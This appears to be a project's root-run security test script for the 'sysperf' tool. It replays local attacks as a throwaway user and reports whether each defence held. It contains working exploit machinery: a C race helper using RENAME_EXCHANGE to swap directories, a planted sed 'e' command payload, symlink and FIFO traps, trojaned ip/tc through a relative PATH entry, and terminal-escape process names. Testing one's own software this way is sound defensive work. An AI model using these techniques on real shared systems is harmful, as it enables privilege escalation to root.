#!/usr/bin/env bash
# Security probe of sysperf as root on a shared machine (#29 items 1-6 and 8): a throwaway
# unprivileged user plays the attacker, this script's root plays the victim running sysperf,
# and each item's attack from the issue is replayed. One line per item:
#   item N <what>: held
#   item N <what>: broken (<evidence>)
# and "inconclusive (<why>)" when the attack could not be set up (no C compiler, the busy
# process never sampled). Exit 1 if any item is broken, else 0. Not a timing measurement.
#
# Usage (root): [SYSPERF=path/to/sysperf] scripts/secprobe.sh
#   SYSPERF  the sysperf under test (default: target/release/sysperf of this checkout)
#   TRIES2   state-directory swaps tried (item 2, one `ab` each; default 300)
#   TRIES3   `run --quick --suite workload` runs under the scratch swapper (item 3; default 10)
#   TRIES5   `runs --db` calls under the file/link swapper (item 5; default 1000)
#   ITEMS    the items to replay (default "1 2 3 4 5 6 8" of #29, then #41's "41.1 41.2 41.3
#            41.4 41.5 41.7 41.8 41.9", each in scripts/secprobe.d/41-N.sh, then #45's "45.1",
#            in scripts/secprobe.d/45-1.sh)
#
# What it changes, and puts back at exit (trap): it creates the user sp-probe-<pid> (home
# under the work directory) and removes it with everything it made (userdel -r); it sets
# fs.protected_symlinks=0 and fs.protected_regular=0 (as some distributions ship) and
# restores them, and restores kernel.msgmax, which item 2's `ab --sysctl` switches. Every
# file is under one mktemp -d directory, removed at exit; the attacker's processes are
# killed by their pids (and die with this script: PR_SET_PDEATHSIG).
#
# The races get a bounded number of tries: item 2 TRIES2 `ab` starts (the directory is
# swapped with RENAME_EXCHANGE in a tight loop during each), item 3 TRIES3 runs, item 5
# TRIES5 `runs --db` calls. A race that did not happen within them prints held.
set -uo pipefail

if [ "$(id -u)" != 0 ]; then
  echo "secprobe.sh: run as root (the victim is root's sysperf)" >&2
  exit 2
fi
here=$(cd "$(dirname "$0")/.." && pwd)
SYSPERF=${SYSPERF:-$here/target/release/sysperf}
case "$SYSPERF" in /*) ;; *) SYSPERF=$(pwd)/$SYSPERF ;; esac
if [ ! -x "$SYSPERF" ]; then
  echo "secprobe.sh: $SYSPERF is not an executable; build it (cargo build --release) or set SYSPERF" >&2
  exit 2
fi
TRIES2=${TRIES2:-300}
TRIES3=${TRIES3:-10}
TRIES5=${TRIES5:-1000}
ITEMS=" ${ITEMS:-1 2 3 4 5 6 8 41.1 41.2 41.3 41.4 41.5 41.7 41.8 41.9 45.1} "
# Whether item $1 is to be replayed.
want() { [ "${ITEMS#* $1 }" != "$ITEMS" ]; }

U=sp-probe-$$
W=$(mktemp -d /tmp/secprobe.XXXXXX)
chmod 755 "$W"
AH=$W/home
old_symlinks=$(sysctl -n fs.protected_symlinks)
old_regular=$(sysctl -n fs.protected_regular)
old_msgmax=$(sysctl -n kernel.msgmax)
bg=()
broken=0

cleanup() {
  local p
  for p in "${bg[@]}"; do
    kill -KILL "$p" 2>/dev/null
    wait "$p" 2>/dev/null
  done
  # Anything else still running as the throwaway user was started by this script: end each
  # by its pid before the user goes.
  if id "$U" >/dev/null 2>&1; then
    for p in $(pgrep -u "$U" 2>/dev/null); do
      kill -KILL "$p" 2>/dev/null
    done
    userdel -r "$U" >/dev/null 2>&1 || userdel "$U" >/dev/null 2>&1 ||
      echo "secprobe.sh: could not remove the user $U (userdel -r $U)" >&2
  fi
  sysctl -q -w fs.protected_symlinks="$old_symlinks" fs.protected_regular="$old_regular" \
    kernel.msgmax="$old_msgmax" >/dev/null
  rm -rf "$W"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# (useradd and userdel say "cannot connect to /var/run/nscd/socket" where no nscd runs.)
if ! useradd --home-dir "$AH" --create-home --shell /bin/sh --user-group "$U" 2>"$W/useradd.err"; then
  cat "$W/useradd.err" >&2
  exit 1
fi
chmod 755 "$AH"
sysctl -q -w fs.protected_symlinks=0 fs.protected_regular=0 >/dev/null

# A command as the attacker: "${asu[@]}" CMD (in the background its pid is CMD's, which
# setpriv becomes), or as_user CMD.
# With the attacker's own HOME: root's (0700) would refuse the attacker's state directory
# and make a probe inconclusive for a reason that is not the probe's.
asu=(setpriv --reuid="$U" --regid="$U" --init-groups -- env HOME="$AH")
as_user() { "${asu[@]}" "$@"; }
# The victim's store for everything but item 4 (which is about the default path).
export SYSPERF_DB=$W/root/store.db
mkdir -m 700 "$W/root" "$W/rootonly"

# Whether process $1 is running (not gone, not a zombie waiting to be reaped).
alive() {
  local st
  st=$(ps -o stat= -p "$1" 2>/dev/null) && [ "${st#Z}" = "$st" ]
}

# Ends process $1 (a child of this script): SIGTERM, then SIGKILL after 10 s.
stop() {
  kill -TERM "$1" 2>/dev/null
  for _ in $(seq 1 100); do
    alive "$1" || break
    sleep 0.1
  done
  kill -KILL "$1" 2>/dev/null
  wait "$1" 2>/dev/null
}

# Item $1 ($2) broken with the evidence $3, or held when $3 is empty.
judge() {
  if [ -n "$3" ]; then
    report "$1" "$2" broken "$3"
  else
    report "$1" "$2" held
  fi
}

# Item $1 ($2) judged by the attacker's mark file $3, to which every planted program appends
# the id of whoever ran it: broken when it has lines (root ran "the attacker's $4"), else
# inconclusive when root's command exited $5 non-zero (its first line in $6 said why), else held.
judge_mark() {
  if [ -s "$3" ]; then
    judge "$1" "$2" "root ran the attacker's $4 $(wc -l <"$3") times (id -u: $(sort -u "$3" | tr '\n' ' ' | sed 's/ $//'))"
  elif [ "$5" != 0 ]; then
    report "$1" "$2" inconclusive "exited $5: $(head -1 "$6" | cut -c1-120)"
  else
    judge "$1" "$2" ""
  fi
}

report() { # item, what, verdict (held / broken / inconclusive), evidence
  if [ "$3" = held ]; then
    echo "item $1 $2: held"
  else
    echo "item $1 $2: $3 ($4)"
    [ "$3" = broken ] && broken=1
  fi
}

# The attacker's tools, in C (the races need renameat2 and tight loops):
#   spin NAME              prctl(PR_SET_NAME, NAME) and burn CPU
#   xchg A B SECS          RENAME_EXCHANGE A and B in a loop for SECS (0: once)
#   wlswap TMP PAYLOAD SECS  swap each root sysperf-workload-* directory in TMP for one of
#                          ours, then replace root's edit.sed there (the scripts run
#                          `sed -f ../edit.sed`; GNU sed's `e` runs PAYLOAD) and each script
#                          directory with one whose script is PAYLOAD
helper=$W/bin/probe
cc_ok=0
mkdir -p "$W/bin"
cat > "$W/bin/probe.c" <<'EOF'
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    if (argc == 3 && !strcmp(argv[1], "spin")) {
        prctl(PR_SET_NAME, argv[2]);
        volatile unsigned long x = 0;
        for (;;) x++;
    }
    if (argc == 5 && !strcmp(argv[1], "xchg")) {
        double end = now() + atof(argv[4]);
        long n = 0;
        do {
            if (renameat2(AT_FDCWD, argv[2], AT_FDCWD, argv[3], RENAME_EXCHANGE) == 0) n++;
        } while (now() < end);
        printf("%ld\n", n);
        return 0;
    }
    if (argc == 5 && !strcmp(argv[1], "wlswap")) {
        double end = now() + atof(argv[4]), busy_until = 0;
        long swaps = 0, planted = 0, n = 0;
        char p[4096], q[4096], s[4096];
        /* Woken by root's mkdir in TMP (inotify), then scanning without a pause for a while:
           the swap must come between root's mkdir and its first write. */
        int in = inotify_init1(IN_NONBLOCK);
        inotify_add_watch(in, argv[2], IN_CREATE);
        while (now() < end) {
            if (now() > busy_until) {
                struct pollfd pf = {in, POLLIN, 0};
                if (poll(&pf, 1, 5) > 0) {
                    char buf[4096];
                    while (read(in, buf, sizeof buf) > 0) {}
                    busy_until = now() + 0.5;
                }
            }
            DIR *d = opendir(argv[2]);
            if (!d) return 1;
            struct dirent *e;
            while ((e = readdir(d))) {
                if (strncmp(e->d_name, "sysperf-workload-", 17)) continue;
                struct stat st;
                snprintf(p, sizeof p, "%s/%s", argv[2], e->d_name);
                if (lstat(p, &st) || !S_ISDIR(st.st_mode)) continue;
                if (st.st_uid != getuid()) {
                    snprintf(q, sizeof q, "%s/.orig-%ld", argv[2], n++);
                    if (rename(p, q) == 0 && mkdir(p, 0777) == 0) {
                        chmod(p, 0777);
                        swaps++;
                    }
                    continue;
                }
                /* The scripts' sed program, read by `sed -f ../edit.sed`: GNU sed's `e`
                   runs a command. Replaced whole (rename), whoever wrote it. */
                snprintf(s, sizeof s, "%s/edit.sed", p);
                if (lstat(s, &st) == 0 && st.st_uid != getuid()) {
                    snprintf(q, sizeof q, "%s/.edit.sed-%ld", p, n++);
                    FILE *f = fopen(q, "w");
                    if (f) {
                        fprintf(f, "1e %s\n", argv[3]);
                        fclose(f);
                        if (rename(q, s) == 0) planted++;
                    }
                }
                for (int k = 0; k < 8; k++) {
                    snprintf(s, sizeof s, "%s/s%d/script", p, k);
                    snprintf(q, sizeof q, "%s/s%d", p, k);
                    if (lstat(q, &st) || st.st_uid == getuid() || access(s, F_OK)) continue;
                    snprintf(s, sizeof s, "%s/.s%d-%ld", p, k, n++);
                    if (rename(q, s) || mkdir(q, 0777)) continue;
                    chmod(q, 0777);
                    snprintf(s, sizeof s, "%s/script", q);
                    FILE *f = fopen(s, "w");
                    if (!f) continue;
                    fprintf(f, "%s\n", argv[3]);
                    fclose(f);
                    planted++;
                }
            }
            closedir(d);
        }
        printf("%ld %ld\n", swaps, planted);
        return 0;
    }
    fprintf(stderr, "probe: bad arguments\n");
    return 2;
}
EOF
if command -v cc >/dev/null && cc -O2 -o "$helper" "$W/bin/probe.c" 2>"$W/bin/cc.err"; then
  cc_ok=1
  chmod 755 "$helper"
fi

# ---------------------------------------------------------------------------------------
# Item 1: -o writes over a device file by renaming a regular file onto it.
if want 1; then
  mknod -m 666 "$W/null" c 1 3
  "$SYSPERF" job null -o "$W/null" >/dev/null 2>"$W/item1.err"
  if [ -c "$W/null" ]; then
    report 1 "-o on a character device" held
  else
    report 1 "-o on a character device" broken \
      "job null -o $W/null left $(stat -c '%F, owner %U, mode %a' "$W/null")"
  fi
fi

# ---------------------------------------------------------------------------------------
# Item 2: SYSPERF_STATE_DIR in a directory the attacker owns: the state directory is
# swapped (RENAME_EXCHANGE) with one whose sysperf-switch-PID.tmp links to a root-only file.
if want 2; then
  what2="SYSPERF_STATE_DIR swap during ab --sysctl"
  if [ "$cc_ok" = 1 ]; then
    P=$AH/p
    as_user mkdir -p "$P/evil"
    mkdir -m 700 "$P/state" # as root's earlier ab left it
    victim=$W/rootonly/secret2
    echo ORIGINAL > "$victim"
    chmod 600 "$victim"
    hit=""
    for try in $(seq 1 "$TRIES2"); do
      SYSPERF_STATE_DIR=$P/state "$SYSPERF" ab --quick --sysctl kernel.msgmax=8193 syscall \
        >/dev/null 2>&1 &
      v=$!
      bg+=("$v")
      # The attacker sees the pid in /proc and plants the link the record's temporary file
      # will be created through (today's name: sysperf-switch-PID.tmp), well before `ab`
      # arms its switch (after the doctor's 0.2 s sample), then swaps without a pause.
      as_user ln -s "$victim" "$P/evil/sysperf-switch-$v.tmp"
      # Four swappers, so that one is likely on a CPU while `ab` is between its check and
      # its create (on a busy machine one swapper may wait for a CPU the whole time).
      xs=()
      for _ in 1 2 3 4; do
        "${asu[@]}" "$helper" xchg "$P/state" "$P/evil" 8 >/dev/null &
        xs+=("$!")
      done
      bg+=("${xs[@]}")
      for _ in $(seq 1 160); do
        if [ "$(cat "$victim")" != ORIGINAL ] || ! alive "$v" ||
          [ "$(sysctl -n kernel.msgmax)" = 8193 ] ||
          ls "$P/state" "$P/evil" 2>/dev/null | grep -Eq "switch-$v([^0-9.]|$)"; then
          break
        fi
        sleep 0.05
      done
      stop "$v"
      kill -KILL "${xs[@]}" 2>/dev/null
      wait "${xs[@]}" 2>/dev/null
      # The real state directory back in its place.
      if [ "$(stat -c %u "$P/state")" != 0 ]; then
        as_user "$helper" xchg "$P/state" "$P/evil" 0 >/dev/null
      fi
      as_user find "$P/evil" -maxdepth 1 -name 'sysperf-switch-*' -delete 2>/dev/null
      if [ "$(cat "$victim")" != ORIGINAL ]; then
        hit="on try $try a root-only 0600 file was overwritten with: $(head -c 60 "$victim")"
        break
      fi
    done
    sysctl -q -w kernel.msgmax="$old_msgmax" >/dev/null
    judge 2 "$what2" "$hit"
  else
    report 2 "$what2" inconclusive "no C compiler for the swapper"
  fi
fi

# ---------------------------------------------------------------------------------------
# Item 3: TMPDIR in the attacker's directory: each new sysperf-workload-* directory is
# swapped for the attacker's, whose script directories the attacker then replaces.
if want 3; then
  what3="TMPDIR swap during run --suite workload"
  if [ "$cc_ok" = 1 ]; then
    as_user mkdir -p "$AH/tmp"
    hit=""
    for try in $(seq 1 "$TRIES3"); do
      "${asu[@]}" "$helper" wlswap "$AH/tmp" "id > $AH/pwned" 120 > "$W/wlswap.out" &
      x=$!
      bg+=("$x")
      TMPDIR=$AH/tmp timeout -k 5 110 "$SYSPERF" run --quick --suite workload >/dev/null 2>&1
      kill -KILL "$x" 2>/dev/null
      wait "$x" 2>/dev/null
      if [ -s "$AH/pwned" ]; then
        hit="on run $try root ran the attacker's script: $(cat "$AH/pwned" | cut -c1-60)"
        break
      fi
    done
    judge 3 "$what3" "$hit"
  else
    report 3 "$what3" inconclusive "no C compiler for the swapper"
  fi
fi

# ---------------------------------------------------------------------------------------
# Item 4: the default store path under a HOME (or XDG_DATA_HOME) the attacker owns (as with
# `sudo -E`). Each case is tried; every one that breaks is named.
if want 4; then
  store4() { # HOME XDG_DATA_HOME: root's `sysperf run syscall --quick` with the default store
    env -u SYSPERF_DB -u XDG_DATA_HOME -u XDG_STATE_HOME HOME="$1" ${2:+XDG_DATA_HOME="$2"} \
      timeout -k 5 15 "$SYSPERF" run syscall --quick >/dev/null 2>&1
  }
  hits=()
  as_user mkdir -p "$AH/h1/.local/share/sysperf"
  as_user ln -s "$W/rootonly/home-link.db" "$AH/h1/.local/share/sysperf/sysperf.db"
  store4 "$AH/h1" ""
  [ -e "$W/rootonly/home-link.db" ] &&
    hits+=("root created $W/rootonly/home-link.db through the attacker's link at \$HOME/.local/share/sysperf/sysperf.db")
  mkdir -m 700 "$W/rootonly/xdg"
  as_user ln -s "$W/rootonly/xdg" "$AH/xdg"
  store4 /nonexistent "$AH/xdg"
  [ -e "$W/rootonly/xdg/sysperf" ] &&
    hits+=("root created $W/rootonly/xdg/sysperf through XDG_DATA_HOME, the attacker's link")
  as_user mkdir -p "$AH/h2/.local/share/sysperf"
  as_user touch "$AH/h2/.local/share/sysperf/sysperf.db"
  store4 "$AH/h2" ""
  [ -s "$AH/h2/.local/share/sysperf/sysperf.db" ] &&
    hits+=("root wrote its store into the attacker's empty file ($(stat -c '%U, %s bytes' "$AH/h2/.local/share/sysperf/sysperf.db"))")
  as_user mkdir -p "$AH/h3/.local/share/sysperf"
  as_user mkfifo "$AH/h3/.local/share/sysperf/sysperf.db"
  # (In a subshell, whose "Killed" notice goes nowhere: timeout ends with SIGKILL after -k.)
  (store4 "$AH/h3" "") 2>/dev/null
  case $? in 124 | 137) hits+=("a FIFO at the default path held root's run until killed after 15 s") ;; esac
  if [ ${#hits[@]} -gt 0 ]; then
    report 4 "default store path" broken "$(IFS=';'; echo "${hits[*]}" | sed 's/;/; /g')"
  else
    report 4 "default store path" held
  fi
fi

# ---------------------------------------------------------------------------------------
# Item 5: --db in directories the attacker can write: a file swapped for a link between the
# check and the open (TRIES5 tries), a store file the attacker created first, planted -wal
# and -shm files. Each case is tried; every one that breaks is named.
if want 5; then
  what5="--db in a directory others can write"
  hits=()
  mkdir -m 2775 "$W/team"
  chgrp "$U" "$W/team"
  if [ "$cc_ok" = 1 ]; then
    # Root's own store (so that refusing other users' files is not what holds), swapped
    # with the attacker's link in a tight loop while root opens it again and again.
    timeout -k 5 15 "$SYSPERF" run syscall --quick --db "$W/team/race.db" >/dev/null 2>&1
    as_user ln -s "$W/rootonly/race-created.db" "$W/team/.alt"
    "${asu[@]}" "$helper" xchg "$W/team/race.db" "$W/team/.alt" 600 >/dev/null &
    x=$!
    bg+=("$x")
    for try in $(seq 1 "$TRIES5"); do
      timeout -k 5 10 "$SYSPERF" runs --db "$W/team/race.db" >/dev/null 2>&1
      if [ -e "$W/rootonly/race-created.db" ]; then
        hits+=("on try $try of runs --db, root created $W/rootonly/race-created.db through a link swapped in for the checked file")
        break
      fi
    done
    kill -KILL "$x" 2>/dev/null
    wait "$x" 2>/dev/null
  fi
  mkdir -m 1777 "$W/sticky"
  as_user sh -c "umask 0; : > '$W/sticky/shared.db'"
  if timeout -k 5 15 "$SYSPERF" runs --db "$W/sticky/shared.db" >/dev/null 2>&1 &&
    [ -s "$W/sticky/shared.db" ]; then
    hits+=("root accepted and wrote a store file the attacker created ($(stat -c '%U, mode %a, %s bytes' "$W/sticky/shared.db"))")
  fi
  mkdir -m 2775 "$W/team2"
  chgrp "$U" "$W/team2"
  timeout -k 5 15 "$SYSPERF" run syscall --quick --db "$W/team2/r.db" >/dev/null 2>&1
  rm -f "$W/team2/r.db-wal" "$W/team2/r.db-shm"
  # (SQLite itself refuses -wal and -shm links; another user's files it opens.)
  as_user sh -c "umask 0; : > '$W/team2/r.db-wal'; : > '$W/team2/r.db-shm'"
  timeout -k 5 15 "$SYSPERF" runs --db "$W/team2/r.db" >/dev/null 2>&1
  for f in wal shm; do
    if [ ! -e "$W/team2/r.db-$f" ]; then
      hits+=("root opened the attacker's r.db-$f (SQLite removed it on close)")
    elif [ -s "$W/team2/r.db-$f" ]; then
      hits+=("root used the attacker's r.db-$f ($(stat -c '%U, %s bytes' "$W/team2/r.db-$f"))")
    fi
  done
  if [ ${#hits[@]} -gt 0 ]; then
    report 5 "$what5" broken "$(IFS=';'; echo "${hits[*]}" | sed 's/;/; /g')"
  else
    report 5 "$what5" held
  fi
fi

# ---------------------------------------------------------------------------------------
# Item 6: a relative (empty) PATH entry and an ip/tc planted in the current directory.
if want 6; then
  as_user mkdir -p "$AH/mal"
  for prog in ip tc; do
    real=""
    for d in /usr/sbin /usr/bin /sbin /bin; do
      [ -x "$d/$prog" ] && real=$d/$prog && break
    done
    # Leaves a mark, then does the real program's work (so the run goes on as usual).
    printf '#!/bin/sh\necho "%s $*" >> %s\nexec %s "$@"\n' "$prog" "$AH/mal/ran" "$real" |
      as_user tee "$AH/mal/$prog" >/dev/null
    as_user chmod 755 "$AH/mal/$prog"
  done
  (cd "$AH/mal" && PATH=":/usr/sbin:/usr/bin:/bin" timeout -k 5 300 "$SYSPERF" run --quick \
    --suite net.longhaul >/dev/null 2>&1)
  if [ -s "$AH/mal/ran" ]; then
    report 6 "ip and tc through a relative PATH entry" broken \
      "root ran the planted ./ip and ./tc $(wc -l < "$AH/mal/ran") times, first: $(head -1 "$AH/mal/ran")"
  else
    report 6 "ip and tc through a relative PATH entry" held
  fi
fi

# ---------------------------------------------------------------------------------------
# Item 8: a busy process of the attacker's named with a newline (root's doctor) and with an
# ESC (a run that records it, then the export of every run). Each case is tried.
if want 8; then
  what8="process names with newlines and control characters"
  if [ "$cc_ok" = 1 ]; then
    hits=()
    unseen=()
    "${asu[@]}" "$helper" spin "$(printf 'ok\n  ! FAKE')" &
    s=$!
    bg+=("$s")
    seen=""
    for _ in 1 2 3 4 5; do
      out=$("$SYSPERF" doctor 2>/dev/null)
      if printf '%s\n' "$out" | grep -q '^ *! FAKE'; then
        hits+=("doctor printed a line of the attacker's: '$(printf '%s\n' "$out" | grep -m1 '^ *! FAKE' | cut -c1-40)'")
        seen=1
        break
      fi
      if printf '%s\n' "$out" | grep -q "$s ok"; then
        seen=1
        break
      fi
    done
    [ -z "$seen" ] && unseen+=("doctor")
    kill -KILL "$s" 2>/dev/null
    wait "$s" 2>/dev/null
    "${asu[@]}" "$helper" spin "$(printf 'x\033[1m\nFAKE')" &
    s=$!
    bg+=("$s")
    seen=""
    export SYSPERF_DB=$W/root/item8.db
    for _ in 1 2 3 4 5; do
      "$SYSPERF" run syscall --quick >/dev/null 2>&1
      if "$SYSPERF" show latest --json 2>/dev/null | grep -q "busiest: .*$s "; then
        seen=1
        break
      fi
    done
    kill -KILL "$s" 2>/dev/null
    wait "$s" 2>/dev/null
    if [ -n "$seen" ]; then
      # shellcheck disable=SC2046
      if ! "$SYSPERF" export $("$SYSPERF" runs --json | grep -o '"id": *"[0-9a-f]\{12\}"' |
        grep -o '[0-9a-f]\{12\}') -o "$W/all.json" 2>"$W/export.err"; then
        hits+=("export of the runs failed: $(head -1 "$W/export.err" | cut -c1-110)")
      fi
    else
      unseen+=("a run")
    fi
    export SYSPERF_DB=$W/root/store.db
    if [ ${#hits[@]} -gt 0 ]; then
      report 8 "$what8" broken "$(IFS=';'; echo "${hits[*]}" | sed 's/;/; /g')"
    elif [ ${#unseen[@]} -gt 0 ]; then
      report 8 "$what8" inconclusive "the busy process was not among the busiest in 5 samples of ${unseen[*]}"
    else
      report 8 "$what8" held
    fi
  else
    report 8 "$what8" inconclusive "no C compiler for the named busy process"
  fi
fi

# ---------------------------------------------------------------------------------------
# #41's items, one file each (scripts/secprobe.d/41-N.sh): each file defines probe_41_N,
# which uses this script's as_user, asu, report/judge, stop, alive, $W, $U, $AH, $SYSPERF and
# $helper/$cc_ok, works under "$W/i41-N" and puts back anything it changes.
# #45's (the cspeed suite's compiler) the same way, as scripts/secprobe.d/45-N.sh.
for item in 41.1 41.2 41.3 41.4 41.5 41.7 41.8 41.9 45.1; do
  want "$item" || continue
  n=${item#*.} i=${item%%.*}
  f=$here/scripts/secprobe.d/$i-$n.sh
  if [ -f "$f" ]; then
    mkdir -p "$W/i$i-$n"
    # shellcheck source=/dev/null
    . "$f"
    "probe_${i}_$n"
  else
    report "$item" "(no probe)" broken "$f is missing"
  fi
done

exit "$broken"
